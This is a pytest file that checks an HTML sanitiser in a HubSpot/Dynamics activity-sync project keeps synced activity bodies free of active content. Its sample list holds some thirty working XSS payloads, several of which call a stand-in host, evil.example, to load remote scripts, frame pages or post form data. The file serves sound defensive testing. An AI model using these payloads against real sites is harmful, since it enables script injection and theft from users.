"""Nothing active gets from one system into the other, in either form of a body."""

from __future__ import annotations

import pytest

from activity_sync.activities.activity import RichText
from activity_sync.activities.kinds import ActivityType
from activity_sync.mapping import encode_fields, load_mapping
from activity_sync.mapping.richtext import sanitise

_SAMPLES = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img src=`x` onerror=alert(1)//>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name=p><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import url(https://evil.example/x.css);</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<div style="position:fixed;top:0;left:0;width:100%">x</div>',
    '<body onload="alert(1)">x</body>',
    "<details open ontoggle=alert(1)>x</details>",
    '<video><source onerror="alert(1)"></video>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    '<p><strong>Subject</strong></p><img src=x onerror="alert(1)">',
    "<template><script>alert(1)</script></template>",
    "\x00<script\x00>alert(1)</script>",
]


@pytest.mark.parametrize("sample", _SAMPLES)
def test_sanitised_markup_is_inert_and_stays_so(sample, is_active):
    once = sanitise(sample)

    assert not is_active(once)
    assert sanitise(once) == once


@pytest.mark.parametrize("system", ["hubspot", "dynamics"])
@pytest.mark.parametrize("activity_type", ActivityType)
@pytest.mark.parametrize("sample", _SAMPLES)
def test_no_type_carries_active_content_into_either_system(system, activity_type, sample, is_active):
    mapping = load_mapping(system).types[activity_type]
    column = mapping.fields["body"].write[0]

    encoded = encode_fields(mapping, {"subject": "s", "body": RichText(f"text {sample}", html=True)})

    assert not is_active(encoded.properties[column])
    assert "text" in encoded.properties[column]


@pytest.mark.parametrize("sample", _SAMPLES)
def test_markup_typed_as_text_arrives_as_text(sample, is_active):
    mapping = load_mapping("hubspot").types[ActivityType.TASK]

    encoded = encode_fields(mapping, {"body": RichText(sample, html=False)})

    assert not is_active(encoded.properties["hs_task_body"])


def test_samples_would_be_noticed(is_active):
    harmless = {sample for sample in _SAMPLES if not is_active(sample)}

    # The three whose activity only a browser's own decoding brings out.
    assert harmless <= {
        '<a href="java\nscript:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
        "\x00<script\x00>alert(1)</script>",
    }
